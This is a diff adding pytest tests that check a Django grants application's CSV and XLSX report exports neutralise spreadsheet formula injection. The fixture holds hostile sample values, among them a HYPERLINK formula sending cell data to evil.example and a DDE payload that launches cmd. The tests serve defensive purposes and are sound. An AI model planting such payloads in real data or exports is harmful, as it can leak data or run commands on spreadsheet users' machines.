@@ -8,6 +8,7 @@ import io
 
 import openpyxl
 import pytest
+from django.utils import timezone
 
 BOM = b"\xef\xbb\xbf"
 
@@ -132,3 +133,66 @@ def test_a_bad_filter_is_a_400_with_the_reason(login, cast, funding):
     )
     assert response.status_code == 400
     assert "company" in response.content.decode()
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    "name_zh": "+cmd|' /C calc'!A0",
+    "title": "-2+3",
+    "programme": "@SUM(1+1)",
+}
+
+
+@pytest.fixture
+def hostile(cast):
+    """A company, project and programme named by someone who wants a formula to run."""
+    from tests.factories import CompanyFactory, ProgrammeFactory, ProjectFactory
+    from tests.grants.dashboard.conftest import make_application
+
+    company = CompanyFactory(
+        organisation=cast.org, name=HOSTILE["name"], name_zh=HOSTILE["name_zh"]
+    )
+    programme = ProgrammeFactory(code="hostile", name_en=HOSTILE["programme"], name_zh="\tTAB")
+    project = ProjectFactory(company=company, title=HOSTILE["title"])
+    return make_application(
+        company, programme, "submitted", "1000.00", project=project, submitted_at=timezone.now()
+    )
+
+
+def test_the_csv_keeps_user_text_as_text(login, cast, hostile):
+    _header, *rows = _csv_rows(login(cast.consultant).get("/reports/applications.csv"))
+    (row,) = [r for r in rows if r[0] == hostile.reference]
+    assert row[1] == "'" + HOSTILE["name"]
+    assert row[2] == "'" + HOSTILE["name_zh"]
+    assert row[3] == "'" + HOSTILE["title"]
+    assert row[5] == "'" + HOSTILE["programme"]
+    assert row[7] == "1000.00"  # amounts are untouched
+    funding = _csv_rows(login(cast.consultant).get("/reports/funding.csv"))
+    items = [r[1] for r in funding]
+    assert f"'{HOSTILE['name']} ({HOSTILE['name_zh']})" in items
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for r in funding for cell in r)
+
+
+def test_the_xlsx_keeps_user_text_as_text(login, cast, hostile):
+    book = _workbook(login(cast.consultant).get("/reports/applications.xlsx"))
+    sheet = book.active
+    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    row = rows[hostile.reference]
+    assert [cell.data_type for cell in row[1:4]] == ["s", "s", "s"]  # text, not formulas
+    assert row[1].value == "'" + HOSTILE["name"]
+    assert row[3].value == "'" + HOSTILE["title"]
+    assert row[5].value == "'" + HOSTILE["programme"]
+    funding = _workbook(login(cast.consultant).get("/reports/funding.xlsx"))
+    cells = [c for ws in funding.worksheets for r in ws.iter_rows() for c in r]
+    assert not any(c.data_type == "f" for c in cells)
+    assert f"'{HOSTILE['name']} ({HOSTILE['name_zh']})" in [c.value for c in cells]
+
+
+def test_neutralise_covers_every_formula_start():
+    from grants.reports.exports import neutralise
+
+    for start in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
+        assert neutralise(f"{start}1") == f"'{start}1"
+    assert neutralise("Lujiazui Vision Ltd") == "Lujiazui Vision Ltd"
+    assert neutralise("陆家嘴") == "陆家嘴"
+    assert neutralise(2026) == 2026 and neutralise(None) is None
